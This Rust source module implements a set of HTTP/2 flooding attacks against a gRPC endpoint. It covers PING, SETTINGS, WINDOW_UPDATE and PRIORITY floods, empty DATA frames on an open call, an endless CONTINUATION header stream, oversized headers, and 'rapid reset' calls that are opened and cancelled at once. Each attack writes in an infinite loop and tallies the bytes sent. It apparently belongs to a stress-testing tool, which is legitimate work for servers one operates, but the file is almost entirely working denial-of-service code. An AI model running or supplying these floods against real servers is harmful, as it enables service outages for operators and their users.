//! Frames that cost the sender next to nothing, as fast as they can be written.

use std::sync::Arc;

use super::Target;
use crate::client::CallError;
use crate::frames;
use crate::methods;
use crate::raw::Raw;

/// Bytes that are written at once.
const CHUNK_LEN: usize = 16 * 1024;

pub async fn window_update(target: Arc<Target>, number: usize) -> Result<(), CallError> {
    same_frame(&target, number, &frames::window_update(0, 1)).await
}

pub async fn ping(target: Arc<Target>, number: usize) -> Result<(), CallError> {
    same_frame(&target, number, &frames::ping(7)).await
}

pub async fn settings(target: Arc<Target>, number: usize) -> Result<(), CallError> {
    same_frame(&target, number, &frames::settings(&[])).await
}

pub async fn priority(target: Arc<Target>, number: usize) -> Result<(), CallError> {
    same_frame(&target, number, &frames::frame(frames::PRIORITY, 0, 1, &[0, 0, 0, 0, 16])).await
}

async fn same_frame(target: &Target, number: usize, frame: &[u8]) -> Result<(), CallError> {
    let raw = Raw::open(&target.plain_endpoint(number), &[]).await?;
    flood(target, &raw, frame).await
}

/// DATA frames of no length, on a call that is never ended.
pub async fn empty_data(target: Arc<Target>, number: usize) -> Result<(), CallError> {
    let raw = Raw::open(&target.plain_endpoint(number), &[]).await?;
    raw.send(&frames::grpc_headers(1, methods::VERIFY, None)).await?;
    flood(&target, &raw, &frames::frame(frames::DATA, 0, 1, &[])).await
}

/// A head that never ends, in pieces of one header each.
pub async fn continuation(target: Arc<Target>, number: usize) -> Result<(), CallError> {
    let raw = Raw::open(&target.plain_endpoint(number), &[]).await?;
    raw.send(&frames::frame(frames::HEADERS, 0, 1, &frames::grpc_block(methods::VERIFY, None))).await?;
    flood(&target, &raw, &frames::frame(frames::CONTINUATION, 0, 1, &frames::block(&[("x", "")]))).await
}

/// Calls whose heads are as large as a frame.
pub async fn large_heads(target: Arc<Target>, number: usize) -> Result<(), CallError> {
    let filling = "x".repeat(15_000);
    let mut block = frames::grpc_block(methods::VERIFY, None);
    block.extend(frames::block(&[("x-filling", &filling)]));
    let call = |stream| frames::frame(frames::HEADERS, frames::END_HEADERS | frames::END_STREAM, stream, &block);
    streams(&target, number, call).await
}

/// Calls that are begun and cancelled at once.
pub async fn rapid_reset(target: Arc<Target>, number: usize) -> Result<(), CallError> {
    let call = |stream| [frames::grpc_headers(stream, methods::VERIFY, None), frames::reset(stream)].concat();
    streams(&target, number, call).await
}

/// One call after the other, without waiting for any.
async fn streams(target: &Target, number: usize, call: impl Fn(u32) -> Vec<u8>) -> Result<(), CallError> {
    let raw = Raw::open(&target.plain_endpoint(number), &[]).await?;
    let mut stream = 1;
    loop {
        let mut chunk = Vec::with_capacity(2 * CHUNK_LEN);
        while chunk.len() < CHUNK_LEN {
            chunk.extend(call(stream));
            stream += 2;
        }
        write(target, &raw, &chunk).await?;
    }
}

async fn flood(target: &Target, raw: &Raw, frame: &[u8]) -> Result<(), CallError> {
    let chunk = frame.repeat(CHUNK_LEN.div_ceil(frame.len()));
    loop {
        write(target, raw, &chunk).await?;
    }
}

async fn write(target: &Target, raw: &Raw, chunk: &[u8]) -> Result<(), CallError> {
    if raw.is_ended() {
        return Err(CallError::Transport("the server ended it".into()));
    }
    raw.send(chunk).await?;
    target.tally.sent(chunk.len());
    // Others on this core attack too.
    tokio::task::yield_now().await;
    Ok(())
}
